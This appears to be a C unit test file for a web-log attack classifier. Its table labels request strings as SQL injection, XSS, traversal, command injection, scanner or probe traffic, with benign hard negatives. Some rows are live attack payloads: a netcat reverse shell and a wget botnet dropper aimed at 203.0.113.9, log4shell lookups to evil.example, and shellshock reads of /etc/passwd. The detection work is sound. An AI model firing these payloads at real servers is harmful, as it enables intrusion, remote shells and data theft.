/*
 * test_classify.c - the built-in classifier (ao_classify).
 *
 *   - a table of requests, both ways: real attack shapes from every category
 *     (encoded, double-encoded, with nginx and Apache log escapes) and hard
 *     negatives (search words that are SQL keywords, apostrophes, ordinary
 *     user agents, monitoring, 403/404 noise);
 *   - robustness: truncation at max_line, NUL bytes, hostile repetition,
 *     every byte value, empty and non-HTTP records;
 *   - the two real logs under AO_SHARED_DATA (skipped when absent): the
 *     Elastic Apache log (benign with a few probes) must give exactly the
 *     flags reviewed line by line, and the hackers log the measured share.
 */
#include "ao_test.h"

#include "ao_classify.h"
#include "ao_logfmt.h"

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define S AO_CAT_BIT(AO_CAT_SQLI)
#define X AO_CAT_BIT(AO_CAT_XSS)
#define T AO_CAT_BIT(AO_CAT_TRAVERSAL)
#define R AO_CAT_BIT(AO_CAT_RCE)
#define C AO_CAT_BIT(AO_CAT_SCANNER)
#define P AO_CAT_BIT(AO_CAT_PROBE)
#define A AO_CAT_BIT(AO_CAT_AUTH)
#define N 0u

#define CHROME                                                                 \
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "      \
  "like Gecko) Chrome/120.0.0.0 Safari/537.36"

typedef struct row {
  const char *method;
  const char *target; /* as logged: percent escapes and server escapes */
  const char *ua;     /* NULL: a desktop Chrome */
  const char *referer;
  int status;
  ao_catmask_t want;
  const char *why;
} row_t;

/* clang-format off */
static const row_t rows[] = {
  /* --- SQL injection -------------------------------------------------------- */
  {"GET", "/item.php?id=1%27%20OR%20%271%27%3D%271", NULL, NULL, 200, S, "quote break-out, string tautology"},
  {"GET", "/item.php?id=1%20or%201=1", NULL, NULL, 200, S, "numeric tautology"},
  {"GET", "/login?user=admin%27--&pass=x", NULL, NULL, 200, S, "comment after a quote"},
  {"GET", "/login?user=admin%27%23", NULL, NULL, 200, S, "MySQL # comment after a quote"},
  {"GET", "/p?id=-1%20UNION%20ALL%20SELECT%201,2,version()--", NULL, NULL, 200, S, "union all select"},
  {"GET", "/p?id=1%27%20union%20select%20null,username,password%20from%20users--", NULL, NULL, 200, S, "union select from"},
  {"GET", "/p?id=1;DROP%20TABLE%20users--", NULL, NULL, 200, S, "stacked drop table"},
  {"GET", "/p?id=1%3B%20select%20pg_sleep(5)--", NULL, NULL, 200, S, "stacked select, encoded ;"},
  {"GET", "/p?id=1%20AND%20SLEEP(5)", NULL, NULL, 200, S, "time-based blind"},
  {"GET", "/p?id=1%27%20AND%20BENCHMARK(5000000,MD5(1))--", NULL, NULL, 200, S, "benchmark"},
  {"GET", "/p?id=1%27;WAITFOR%20DELAY%20%270:0:5%27--", NULL, NULL, 200, S, "MSSQL waitfor delay"},
  {"GET", "/p?id=1%20and%20extractvalue(1,concat(0x7e,version()))", NULL, NULL, 200, S, "error-based extractvalue"},
  {"GET", "/p?id=1%20AND%20updatexml(1,concat(0x7e,user()),1)", NULL, NULL, 200, S, "error-based updatexml"},
  {"GET", "/p?q=%27%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--", NULL, NULL, 200, S, "catalogue"},
  {"GET", "/p?name=char(97,100,109,105,110)", NULL, NULL, 200, S, "char() with several codes"},
  {"GET", "/p?name=chr(97)||chr(100)", NULL, NULL, 200, S, "chr() concatenation"},
  {"GET", "/p?id=1%2527%2520or%25201%253D1--", NULL, NULL, 200, S, "double-encoded"},
  {"GET", "/p?q=1\\x22 or \\x221\\x22=\\x221", NULL, NULL, 200, S, "nginx \\x22 escapes"},
  {"GET", "/p?q=x\\\" or \\\"a\\\"=\\\"a", NULL, NULL, 200, S, "Apache \\\" escapes"},
  {"GET", "/p?id=1/*!50000UNION*//*!50000SELECT*/1,2,3", NULL, NULL, 200, S, "MySQL versioned comments"},
  {"GET", "/p?id=1%27%20order%20by%2010--", NULL, NULL, 200, S, "column counting"},
  {"GET", "/p?id=1)%20or%20(1=1", NULL, NULL, 200, S, "parenthesised tautology"},
  {"GET", "/p?id=%27)%20or%20(%27a%27=%27a", NULL, NULL, 200, S, "quote and parenthesis"},
  {"GET", "/p?id=1%20having%201=1--", NULL, NULL, 200, S, "having"},
  {"GET", "/p?id=1%27%20and%201=convert(int,@@version)--", NULL, NULL, 200, S, "MSSQL convert error"},
  {"GET", "/p?id=1;exec%20master..xp_cmdshell%20%27dir%27--", NULL, NULL, 200, S, "xp_cmdshell"},
  {"GET", "/p?id=(select%20load_file(%27/etc/passwd%27))", NULL, NULL, 200, S | T, "load_file of passwd"},
  {"GET", "/p?id=1%20into%20outfile%20%27/tmp/x%27", NULL, NULL, 200, S, "into outfile"},
  {"GET", "/p?id=1%20union%20select%20sql%20from%20sqlite_master", NULL, NULL, 200, S, "SQLite catalogue"},
  {"GET", "/p?id=@@version", NULL, NULL, 200, S, "system variable"},
  {"GET", "/p?id=1+AND+8%3D3", NULL, NULL, 200, S, "false condition, plus as space"},
  {"GET", "/p?u=admin%27%20or%20true--", NULL, NULL, 200, S, "bare keyword after break-out"},
  {"GET", "/product/1%27%20or%20%271%27=%271", NULL, NULL, 200, S, "in a path segment"},
  {"GET", "/", "' or 1=1--", NULL, 200, S, "in the user agent"},
  {"GET", "/", NULL, "http://x.example/?id=1' union select 1,2--", 200, S, "in the referer"},

  /* --- cross-site scripting ------------------------------------------------- */
  {"GET", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E", NULL, NULL, 200, X, "script tag"},
  {"GET", "/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E", NULL, NULL, 200, X, "img onerror"},
  {"GET", "/s?q=%3Csvg/onload=alert(1)%3E", NULL, NULL, 200, X, "svg onload"},
  {"GET", "/s?q=%22%3E%3Cscript%3E", NULL, NULL, 200, X, "attribute break-out then script"},
  {"GET", "/s?q=%22%20onmouseover=%22alert(1)", NULL, NULL, 200, X, "handler after a quote"},
  {"GET", "/s?url=javascript:alert(document.cookie)", NULL, NULL, 200, X, "javascript: URL"},
  {"GET", "/s?q=%3Ciframe%20src=//evil.example%3E", NULL, NULL, 200, X, "iframe"},
  {"GET", "/s?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;", NULL, NULL, 200, X, "named entities"},
  {"GET", "/s?q=%26%2360;svg%20onload=alert(1)%26%2362;", NULL, NULL, 200, X, "decimal entities"},
  {"GET", "/s?q=%26%23x3c;script%26%23x3e;", NULL, NULL, 200, X, "hex entities"},
  {"GET", "/s?q=%27;alert(String.fromCharCode(88,83,83))//", NULL, NULL, 200, X, "JS string break-out"},
  {"GET", "/s?u=java%09script:alert(1)", NULL, NULL, 200, X, "tab inside the scheme"},
  {"GET", "/s?q=%253Cscript%253Ealert(1)%253C/script%253E", NULL, NULL, 200, X, "double-encoded script"},
  {"GET", "/s?q=%3CBODY%20ONLOAD=alert(1)%3E", NULL, NULL, 200, X, "upper case"},
  {"GET", "/s?u=vbscript:msgbox(1)", NULL, NULL, 200, X, "vbscript:"},
  {"GET", "/s?q=%3Cdetails%20open%20ontoggle=alert(1)%3E", NULL, NULL, 200, X, "HTML5 event"},
  {"GET", "/%3Cscript%3Ealert(1)%3C/script%3E", NULL, NULL, 404, X, "in the path"},
  {"GET", "/", NULL, "http://x.example/?q=<script>alert(1)</script>", 200, X, "in the referer"},
  {"GET", "/", "<script>alert(1)</script>", NULL, 200, X, "in the user agent"},
  {"GET", "/s?q=%3Ca%20href=%22javascript:alert(1)%22%3Ex%3C/a%3E", NULL, NULL, 200, X, "link with script URL"},
  {"GET", "/s?q=%2BADw-script%2BAD4-alert(1)", NULL, NULL, 200, X, "UTF-7"},
  {"GET", "/s?q=%3Cdiv%20style=%22background:url(x)%22%3E", NULL, NULL, 200, X, "style attribute"},
  {"GET", "/s?q=%3Cx%20style=%22behavior:url(a.htc)%22%3E", NULL, NULL, 200, X, "IE behavior"},
  {"GET", "/s?q=x:expression(alert(1))", NULL, NULL, 200, X, "CSS expression"},

  /* --- traversal and file inclusion ----------------------------------------- */
  {"GET", "/../../../../etc/passwd", NULL, NULL, 400, T, "path climbing above the root"},
  {"GET", "/download?file=../../../../etc/passwd", NULL, NULL, 200, T, "in a parameter"},
  {"GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", NULL, NULL, 200, T, "encoded slashes"},
  {"GET", "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", NULL, NULL, 200, T, "double-encoded"},
  {"GET", "/download?file=..%c0%af..%c0%afetc%c0%afpasswd", NULL, NULL, 200, T, "overlong UTF-8"},
  {"GET", "/download?file=..\\\\..\\\\windows\\\\win.ini", NULL, NULL, 200, T, "backslashes (Apache \\\\)"},
  {"GET", "/download?file=../config.php", NULL, NULL, 200, T, "one level up from a value"},
  {"GET", "/index.php?page=php://filter/convert.base64-encode/resource=index.php", NULL, NULL, 200, T, "php://filter"},
  {"GET", "/index.php?page=file:///etc/passwd", NULL, NULL, 200, T, "file://"},
  {"GET", "/index.php?page=expect://id", NULL, NULL, 200, T, "expect://"},
  {"GET", "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCk7Pz4=", NULL, NULL, 200, T | R, "data:// with base64 PHP code"},
  {"GET", "/index.php?page=zip://uploads/a.jpg%23shell", NULL, NULL, 200, T, "zip://"},
  {"GET", "/index.php?page=/proc/self/environ", NULL, NULL, 200, T, "proc environ"},
  {"GET", "/index.php?file=C:\\\\boot.ini", NULL, NULL, 200, T, "boot.ini"},
  {"GET", "/index.php?file=c:\\\\inetpub\\\\logs\\\\x.log", NULL, NULL, 200, T, "Windows drive path"},
  {"GET", "/index.php?file=/var/log/apache2/access.log", NULL, NULL, 200, T, "log poisoning target"},
  {"GET", "/index.php?page=http://203.0.113.9/shell.txt?", NULL, NULL, 200, T, "RFI to an IP, cut with ?"},
  {"GET", "/index.php?page=https://evil.example/x.txt%3F", NULL, NULL, 200, T, "RFI cut with encoded ?"},
  {"GET", "/index.php?page=shell%00.jpg", NULL, NULL, 200, T, "NUL before an extension"},
  {"GET", "/static/..%2f..%2f..%2fetc/shadow", NULL, NULL, 400, T, "encoded climb in the path"},
  {"GET", "/index.php?file=%uff0e%uff0e%uff0fetc%uff0fpasswd", NULL, NULL, 200, T, "full-width forms"},
  {"GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", NULL, NULL, 200, T, "CVE-2021-41773 shape"},
  {"GET", "/..;/..;/etc/passwd", NULL, NULL, 400, T, "Tomcat ..;"},
  {"GET", "/index.php?f=....//....//etc/passwd", NULL, NULL, 200, T, "filter-stripping evasion"},
  {"GET", "/x?f=..\\x2f..\\x2fetc\\x2fpasswd", NULL, NULL, 200, T, "nginx \\x escapes"},
  {"GET", "/x?f=Li4vLi4vZXRjL3Bhc3N3ZA==", NULL, NULL, 200, T, "base64 of ../../"},

  /* --- command and code injection ------------------------------------------- */
  {"GET", "/cgi-bin/status", "() { :; }; /bin/bash -c 'cat /etc/passwd'", NULL, 200, R, "shellshock in the user agent"},
  {"GET", "/", NULL, "() { ignored; }; echo Content-Type: text/plain ; echo ; /usr/bin/id", 200, R, "shellshock in the referer"},
  {"GET", "/", "${jndi:ldap://203.0.113.5:1389/a}", NULL, 200, R, "log4shell"},
  {"GET", "/?x=%24%7Bjndi:ldap://evil.example/a%7D", NULL, NULL, 200, R, "log4shell in a parameter"},
  {"GET", "/", "${${lower:j}ndi:${lower:l}dap://x.example/a}", NULL, 200, R, "log4shell, lower: lookups"},
  {"GET", "/", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}", NULL, 200, R, "log4shell, default-value lookups"},
  {"GET", "/", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}", NULL, 200, R, "log4shell, env lookups"},
  {"GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", NULL, NULL, 200, R | T, "; cat"},
  {"GET", "/ping?host=127.0.0.1|id", NULL, NULL, 200, R, "| id"},
  {"GET", "/ping?host=127.0.0.1%26%26whoami", NULL, NULL, 200, R, "&& whoami"},
  {"GET", "/ping?host=%60uname%20-a%60", NULL, NULL, 200, R, "backticks"},
  {"GET", "/ping?host=$(wget%20http://203.0.113.9/x.sh)", NULL, NULL, 200, R, "$( wget"},
  {"GET", "/ping?ip=1.1.1.1%0Auname", NULL, NULL, 200, R, "newline, bare command"},
  {"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/mozi.a;chmod+777+mozi.a", NULL, NULL, 404, R, "IoT botnet dropper"},
  {"GET", "/index.php?cmd=bash%20-c%20%27id%27", NULL, NULL, 200, R, "shell at the start of a value"},
  {"GET", "/x?c=cat%24%7BIFS%7D/etc/passwd", NULL, NULL, 200, R | T, "${IFS} instead of a space"},
  {"GET", "/x?c=%7Bcat,/etc/passwd%7D", NULL, NULL, 200, R | T, "brace expansion"},
  {"GET", "/index.php?code=%3C%3Fphp%20system(%27id%27);%20%3F%3E", NULL, NULL, 200, R, "PHP tag"},
  {"GET", "/index.php?x=system(%27ls%27)", NULL, NULL, 200, R, "system() with a string"},
  {"GET", "/index.php?x=eval(base64_decode(%27ZWNobyAx%27))", NULL, NULL, 200, R, "eval(base64_decode())"},
  {"GET", "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", NULL, NULL, 200, R | T, "php-cgi argument injection"},
  {"GET", "/index.php?s=/index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", NULL, NULL, 200, R, "ThinkPHP"},
  {"GET", "/search?q=%7B%7B7*7%7D%7D", NULL, NULL, 200, R, "{{7*7}}"},
  {"GET", "/search?q=$%7B7*7%7D", NULL, NULL, 200, R, "${7*7}"},
  {"GET", "/search?q=%23%7B7*7%7D", NULL, NULL, 200, R, "#{7*7}"},
  {"GET", "/search?q=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", NULL, NULL, 200, R, "Jinja globals"},
  {"GET", "/search?q=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D", NULL, NULL, 200, R, "Jinja subclasses"},
  {"GET", "/x.action?x=%25%7B(%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue)%7D", NULL, NULL, 200, R, "Struts OGNL"},
  {"GET", "/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", NULL, NULL, 200, R, "Spring4Shell"},
  {"GET", "/x?q=%3C!--%23exec%20cmd=%22ls%22%20--%3E", NULL, NULL, 200, R, "server-side include"},
  {"GET", "/x?c=powershell%20-enc%20SQBFAFgA", NULL, NULL, 200, R, "powershell -enc"},
  {"GET", "/x?c=cmd.exe%20/c%20dir", NULL, NULL, 200, R, "cmd.exe"},
  {"GET", "/x?c=nc%20-e%20/bin/sh%20203.0.113.9%204444", NULL, NULL, 200, R, "netcat reverse shell"},
  {"GET", "/x?q=1;sleep%205", NULL, NULL, 200, R, "; sleep N"},
  {"GET", "/", "Mozilla/5.0 `id`", NULL, 200, R, "backticks in the user agent"},
  {"GET", "/x?q=%0Aid%0A", NULL, NULL, 200, R, "bare command on its own line"},
  {"GET", "/", "cat /etc/passwd", NULL, 200, R, "user agent that is a command line"},
  {"GET", "/x?q=%3C?%20echo%20shell_exec($_GET%5Bc%5D);%20?%3E", NULL, NULL, 200, R, "PHP short tag"},
  {"GET", "/x?data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D", NULL, NULL, 200, R, "serialized PHP object"},
  {"GET", "/x?f=shell_exec(%27id%27)", NULL, NULL, 200, R, "shell_exec("},
  {"GET", "/", "Mozilla/5.0 ${jndi:dns://x.example/a}", NULL, 200, R, "jndi after garbage in the user agent"},

  /* --- scanners ------------------------------------------------------------- */
  {"GET", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)", NULL, 200, C, "sqlmap"},
  {"GET", "/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", NULL, 404, C, "Nikto"},
  {"GET", "/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", NULL, 400, C, "Nmap NSE"},
  {"GET", "/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", NULL, 200, C, "masscan"},
  {"GET", "/", "Mozilla/5.0 zgrab/0.x", NULL, 200, C, "zgrab"},
  {"GET", "/", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", NULL, 200, C, "nuclei"},
  {"GET", "/", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", NULL, 200, C, "WPScan"},
  {"GET", "/", "gobuster/3.6", NULL, 404, C, "gobuster"},
  {"GET", "/", "Fuzz Faster U Fool v2.1.0", NULL, 404, C, "ffuf"},
  {"GET", "/", "Wfuzz/3.1.0", NULL, 404, C, "wfuzz"},
  {"GET", "/", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Acunetix-Aspect)", NULL, 200, C, "Acunetix"},
  {"GET", "/", "ZmEu", NULL, 404, C, "ZmEu"},
  {"GET", "/", "Morfeus Fucking Scanner", NULL, 404, C, "Morfeus"},
  {"GET", "/", "Mozilla/4.0 (Hydra)", NULL, 200, C, "THC-Hydra"},
  {"GET", "/.env", "Mozilla/5.00 (Nikto/2.1.6)", NULL, 404, C | P, "scanner and probe"},

  /* --- probes --------------------------------------------------------------- */
  {"GET", "/.env", NULL, NULL, 404, P, "dotenv, absent"},
  {"GET", "/.env", NULL, NULL, 200, P, "dotenv, served: worse"},
  {"GET", "/api/.env.production", NULL, NULL, 404, P, "dotenv variant, nested"},
  {"GET", "/.git/config", NULL, NULL, 404, P, "git metadata"},
  {"GET", "/.git/HEAD", NULL, NULL, 200, P, "git metadata served"},
  {"GET", "/.svn/entries", NULL, NULL, 404, P, "svn metadata"},
  {"GET", "/.DS_Store", NULL, NULL, 404, P, "Finder metadata"},
  {"GET", "/.htpasswd", NULL, NULL, 403, P, "htpasswd"},
  {"GET", "/wp-login.php", NULL, NULL, 200, P, "WordPress login (tier 1)"},
  {"POST", "/xmlrpc.php", NULL, NULL, 200, P, "XML-RPC (tier 1)"},
  {"GET", "/wp-admin/", NULL, NULL, 404, P, "wp-admin where there is none"},
  {"GET", "/blog/wp-admin/", NULL, NULL, 404, P, "nested wp-admin, absent"},
  {"GET", "/phpmyadmin/index.php", NULL, NULL, 404, P, "phpMyAdmin, absent"},
  {"GET", "/pma/", NULL, NULL, 404, P, "pma, absent"},
  {"GET", "/cgi-bin/luci", NULL, NULL, 404, P, "cgi-bin, absent"},
  {"GET", "/backup.zip", NULL, NULL, 404, P, "site backup archive"},
  {"GET", "/www.tar.gz", NULL, NULL, 404, P, "site root archive"},
  {"GET", "/db.sql", NULL, NULL, 200, P, "SQL dump"},
  {"GET", "/index.php.bak", NULL, NULL, 404, P, ".bak"},
  {"GET", "/config.php~", NULL, NULL, 404, P, "editor backup"},
  {"GET", "/.index.php.swp", NULL, NULL, 404, P, "vim swap file"},
  {"GET", "/server-status", NULL, NULL, 403, P, "server-status, closed"},
  {"GET", "/actuator/env", NULL, NULL, 404, P, "Spring actuator, absent"},
  {"GET", "/.aws/credentials", NULL, NULL, 404, P, "cloud credentials"},
  {"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", NULL, NULL, 404, P, "PHPUnit RCE"},
  {"POST", "/boaform/admin/formLogin", NULL, NULL, 404, P, "Boa router"},
  {"GET", "/HNAP1/", NULL, NULL, 404, P, "D-Link HNAP"},
  {"GET", "/solr/admin/info/system", NULL, NULL, 404, P, "Solr admin, absent"},
  {"GET", "/console/login/LoginForm.jsp", NULL, NULL, 404, P, "WebLogic console, absent"},
  {"GET", "/owa/auth/logon.aspx", NULL, NULL, 404, P, "OWA, absent"},
  {"GET", "/shell.php", NULL, NULL, 404, P, "web shell name"},
  {"GET", "/wp-content/plugins/x/c99.php", NULL, NULL, 404, P, "c99 shell"},
  {"GET", "/.hidden", NULL, NULL, 404, P, "any dot file, absent"},
  {"GET", "/config.yml", NULL, NULL, 404, P, "config file, absent"},
  {"GET", "/admin/login.php", NULL, NULL, 404, P, "login script, absent"},
  {"GET", "/%2e%65nv", NULL, NULL, 404, P, "encoded .env"},
  {"GET", "//.git//config", NULL, NULL, 404, P, "doubled slashes"},
  {"GET", "/static/../.env", NULL, NULL, 404, P, "resolved inside the tree"},
  {"GET", "http://victim.example/.env", NULL, NULL, 404, P, "absolute-form target"},

  /* --- authentication ------------------------------------------------------- */
  {"POST", "/api/login", NULL, NULL, 401, A, "401 is a failed authentication"},
  {"GET", "/manager/html", NULL, NULL, 401, A, "401 on an admin area: auth, not probe"},
  {"GET", "/protected", "sqlmap/1.7", NULL, 401, A | C, "401 from a scanner"},

  /* --- ordinary traffic (hard negatives) ------------------------------------ */
  {"GET", "/", NULL, NULL, 200, N, "home page"},
  {"HEAD", "/", NULL, NULL, 200, N, "HEAD"},
  {"OPTIONS", "*", NULL, NULL, 200, N, "OPTIONS *"},
  {"GET", "/static/js/app.min.js?v=3", NULL, NULL, 200, N, "versioned asset"},
  {"GET", "/search?q=select+a+plan", NULL, NULL, 200, N, "select as a word"},
  {"GET", "/search?q=select+your+plan", NULL, NULL, 200, N, "select your plan"},
  {"GET", "/blog/union-station", NULL, NULL, 200, N, "union in a slug"},
  {"GET", "/search?q=union+station", NULL, NULL, 200, N, "union station"},
  {"GET", "/search?q=union+select+committee", NULL, NULL, 200, N, "union select as words"},
  {"GET", "/search?q=select+items+from+the+list", NULL, NULL, 200, N, "select ... from the ..."},
  {"GET", "/people?name=O%27Brien", NULL, NULL, 200, N, "apostrophe, encoded"},
  {"GET", "/people?name=O'Brien&city=Coeur+d'Alene", NULL, NULL, 200, N, "apostrophes, raw"},
  {"GET", "/search?q=drop-down+menu", NULL, NULL, 200, N, "drop-down"},
  {"GET", "/search?q=drop+table+lamp", NULL, NULL, 200, N, "drop table as furniture"},
  {"GET", "/search?q=rock+and+roll", NULL, NULL, 200, N, "and between words"},
  {"GET", "/search?q=cats+%26+dogs", NULL, NULL, 200, N, "ampersand in a value"},
  {"GET", "/search?q=2+or+3+people", NULL, NULL, 200, N, "number or number"},
  {"GET", "/search?q=tom%27s+and+jerry%27s", NULL, NULL, 200, N, "possessives"},
  {"GET", "/search?q=1950%27+and+60%27s+coats", NULL, NULL, 200, N, "decades"},
  {"GET", "/search?q=necklace+16%22+or+18%22", NULL, NULL, 200, N, "inches"},
  {"GET", "/search?q=how+to+use+sleep(1)+in+python", NULL, NULL, 200, N, "sleep( in prose"},
  {"GET", "/search?q=time.sleep(5)", NULL, NULL, 200, N, "a method call"},
  {"GET", "/products?sort=price&order=desc", NULL, NULL, 200, N, "order as a parameter"},
  {"GET", "/api/items?filter=name%3Dfoo", NULL, NULL, 200, N, "filter expression"},
  {"GET", "/search?q=x%3C5+and+y%3E3", NULL, NULL, 200, N, "comparisons in a filter"},
  {"GET", "/search?q=javascript+tutorial", NULL, NULL, 200, N, "javascript as a word"},
  {"GET", "/search?q=alert(1)", NULL, NULL, 200, X, "alert(1): the dialog is the XSS probe"},
  {"GET", "/search?q=alert(warning)+box", NULL, NULL, 200, N, "alert( in prose"},
  {"GET", "/docs/javascript-manual/document.cookie", NULL, NULL, 200, N, "documentation path"},
  {"GET", "/favicon.ico", NULL, NULL, 404, N, "missing favicon"},
  {"GET", "/robots.txt", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", NULL, 200, N, "Googlebot"},
  {"GET", "/wp-content/uploads/2015/05/photo.jpg", NULL, NULL, 200, N, "WordPress media"},
  {"GET", "/wp-admin/", NULL, NULL, 200, N, "wp-admin on a WordPress site"},
  {"GET", "/wp-admin/admin-ajax.php?action=load_more", NULL, NULL, 200, N, "front-end AJAX"},
  {"GET", "/phpMyAdmin/", NULL, NULL, 200, N, "phpMyAdmin the site runs"},
  {"GET", "/server-status?auto", "collectd/5.12.0", NULL, 200, N, "monitoring poll"},
  {"GET", "/.well-known/security.txt", NULL, NULL, 404, N, "well-known, absent"},
  {"GET", "/.well-known/acme-challenge/Xy-z", NULL, NULL, 200, N, "ACME challenge"},
  {"GET", "/config.yml", NULL, NULL, 200, N, "a config the site serves"},
  {"GET", "/index.php?option=com_content&view=article&id=5", NULL, NULL, 200, N, "Joomla article"},
  {"GET", "/page?next=%2Faccount%2Fsettings", NULL, NULL, 200, N, "redirect target"},
  {"GET", "/search?q=C%2B%2B+and+Java", NULL, NULL, 200, N, "C++"},
  {"GET", "/search?q=a+%3C+b", NULL, NULL, 200, N, "less-than in prose"},
  {"GET", "/search?q=%22hello+world%22", NULL, NULL, 200, N, "quoted phrase"},
  {"GET", "/files/report%20(final).pdf", NULL, NULL, 200, N, "parentheses in a name"},
  {"GET", "/tags/c%23", NULL, NULL, 200, N, "C#"},
  {"GET", "/math?expr=2*3", NULL, NULL, 200, N, "arithmetic outside a template"},
  {"GET", "/search?q=%7B%7Bname%7D%7D", NULL, NULL, 200, N, "client template placeholder"},
  {"GET", "/article?title=Don%27t+stop+--+believing", NULL, NULL, 200, N, "dashes after an apostrophe"},
  {"GET", "/scripts/?C=M;O=A", NULL, NULL, 200, N, "Apache directory listing sort"},
  {"GET", "/blog/x.html?utm_source=feedburner&utm_campaign=Feed%3A+semicomplete%2Fmain+%28semicomplete.com+-+Jordan+Sissel%29", NULL, NULL, 200, N, "feed tracking parameters"},
  {"GET", "/scripts//%22file://$file/%22", NULL, NULL, 404, N, "broken template link"},
  {"GET", "/scripts/backup/?C=N;O=D", NULL, NULL, 200, N, "a directory named backup, nested"},
  {"GET", "/files/xdotool/xdotool-2.20101014.3063.tar.gz", NULL, NULL, 404, N, "a release tarball, missing"},
  {"GET", "/acl_users/credentials_cookie_auth/require_login?came_from=http%3A//example.org/join_form", NULL, NULL, 200, N, "URL as a parameter"},
  {"GET", "/api/v1/users/42", NULL, NULL, 200, N, "REST path"},
  {"GET", "/search?q=...&t=wait..", NULL, NULL, 200, N, "ellipses"},
  {"GET", "/compare?range=1..5&v=v1.2..v1.3", NULL, NULL, 200, N, "ranges"},
  {"GET", "/api?xml=%3C%3Fxml%20version=%221.0%22%3F%3E%3Ca%3E1%3C/a%3E", NULL, NULL, 200, N, "XML in a parameter"},
  {"GET", "/api?when=10:30&where=c:d", NULL, NULL, 200, N, "colons"},
  {"GET", "/search?q=%24%7Buser.name%7D", NULL, NULL, 200, N, "EL placeholder without code"},
  {"GET", "/cart?coupon=SAVE10&qty=2", NULL, NULL, 200, N, "form parameters"},
  {"GET", "/search?q=select", NULL, NULL, 200, N, "a lone keyword"},
  {"GET", "/search?q=%27", NULL, NULL, 200, N, "a lone quote"},
  {"GET", "/search?q=1%3D1", NULL, NULL, 200, N, "1=1 without an operator"},
  {"GET", "/downloads/setup.exe", NULL, NULL, 200, N, "a download"},
  {"GET", "/admin/config", NULL, NULL, 403, N, "403 is not auth, not a known probe"},
  {"GET", "/misc/../index.html", NULL, NULL, 200, N, ".. that stays inside"},
  {"GET", "/login?a=1&id&b=2", NULL, NULL, 200, N, "valueless parameter named id"},
  {"GET", "/api?fields=name|email", NULL, NULL, 200, N, "pipe-separated list"},
  {"GET", "/", "curl/7.88.1", NULL, 200, N, "curl"},
  {"GET", "/", "python-requests/2.31.0", NULL, 200, N, "python-requests"},
  {"GET", "/", "Go-http-client/1.1", NULL, 200, N, "Go client"},
  {"GET", "/", "Wget/1.21.3", NULL, 200, N, "wget"},
  {"GET", "/", "libwww-perl/6.67", NULL, 200, N, "libwww-perl"},
  {"GET", "/", "Java/1.8.0_151", NULL, 200, N, "Java"},
  {"GET", "/", "okhttp/4.9.0", NULL, 200, N, "okhttp"},
  {"HEAD", "/", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", NULL, 200, N, "UptimeRobot"},
  {"GET", "/", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", NULL, 200, N, "bingbot"},
  {"GET", "/", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", NULL, 200, N, "SEO crawler"},
  {"GET", "/", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", NULL, 200, N, "link preview"},
  {"GET", "/", "Mozilla/5.0 (Windows NT 6.2; ARM; Trident/7.0; Touch; rv:11.0) like Gecko", NULL, 200, N, "Touch in a user agent"},
  {"GET", "/", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", NULL, 200, N, "Firefox"},
  {"GET", "/", "Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.5 Mobile/15E148 Safari/604.1", NULL, 200, N, "Safari iOS"},
  {"GET", "/", "Dalvik/2.1.0 (Linux; U; Android 11; SH-04F Build/RQ3A.211001.001)", NULL, 200, N, "Android model with sh"},
  {"GET", "/", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; SLCC2; .NET CLR 2.0.50727; Media Center PC 6.0)", NULL, 200, N, "old IE"},
  {"GET", "/", NULL, "https://www.google.com/search?q=union+station+chicago", 200, N, "search referer"},
  {"GET", "/", NULL, "https://www.bing.com/search?q=select+your+plan&form=QBLH", 200, N, "search referer with select"},
  {"GET", "/", NULL, "http://semicomplete.com/presentations/logstash-monitorama-2013/", 200, N, "site referer"},
};
/* clang-format on */

static ao_classifier_t *new_classifier(size_t max_line) {
  ao_err_t err;
  ao_classifier_t *c = ao_classifier_create(max_line, &err);
  if (c == NULL)
    print_error("ao_classifier_create: %s\n", err.msg);
  assert_non_null(c);
  return c;
}

static ao_slice_t sl(const char *s) {
  return s != NULL ? (ao_slice_t){s, strlen(s)} : AO_SLICE_EMPTY;
}

/* A record the way ao_logfmt fills it from the row. */
